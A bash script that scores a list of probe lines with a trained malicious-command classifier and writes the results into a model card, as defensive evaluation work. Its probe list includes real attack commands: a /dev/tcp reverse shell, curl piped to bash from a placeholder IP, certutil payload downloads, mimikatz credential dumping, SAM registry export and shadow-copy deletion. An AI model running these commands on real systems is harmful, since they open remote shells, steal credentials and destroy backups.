#!/usr/bin/env bash
# Append a "Probe lines" table to a model card: the scores of a few well-known attack lines and
# ordinary lines, so that readers see what the model does on lines they can judge themselves.
# Called by scripts/train_shipped_model.sh. Usage: scripts/shipped_model_probes.sh MODEL_DIR WORK_DIR
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT="$(pwd)"
MODEL=$1 WORK=$2
BIN=${CARGO_TARGET_DIR:-$ROOT/target}/release/longtail
cat > "$WORK/probes.txt" <<'LINES'
vssadmin.exe delete shadows /all /quiet
reg save HKLM\SAM C:\Windows\Temp\sam.save
certutil -urlcache -f http://x/a.exe a.exe
certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\p.exe
powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
curl -s http://203.0.113.9/x.sh | bash
ls -la
git status
cd ~/projects && make test
tar -xzf archive.tar.gz -C /opt
python3 -m pip install --upgrade requests
grep -rn TODO src/
choco install -y git
Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
LINES
"$BIN" -q --device flex classify --model "$MODEL" "$WORK/probes.txt" -o "$WORK/probes.jsonl"
python3 - "$MODEL" "$WORK/probes.jsonl" <<'PY'
import json, sys
model, probes = sys.argv[1], sys.argv[2]
rows = [json.loads(l) for l in open(probes)]
thr = json.load(open(f"{model}/threshold.json"))["threshold"]
card = open(f"{model}/README.md").read()
card = card.split("\n## Probe lines\n")[0].rstrip("\n") + "\n"
card += f"""
## Probe lines

Scores of lines anyone can judge (`scripts/shipped_model_probes.sh`): 8 attacks, then 7
ordinary lines, then a dual-use admin line (enabling RDP, also an ATT&CK test). Flagged = score >= the stored threshold {thr:.4f}.

| line | score | flagged |
|---|---|---|
"""
for r in rows:
    cmd = r["cmd"].replace("|", "\\|")
    card += f"| `{cmd}` | {r['score']:.3f} | {'yes' if r['score'] >= thr else 'no'} |\n"
card += """
At the stored threshold few attacks are flagged: it was set for FPR 1e-3 on validation lines.
Short Windows living-off-the-land lines without paths (`certutil -urlcache -f http://x/a.exe
a.exe`) score low: the malicious training lines are Atomic Red Team tests with long rendered
arguments, so this model keys on their style more than on the binary's name. Augment with your
own lines before relying on it.
"""
open(f"{model}/README.md", "w").write(card)
PY
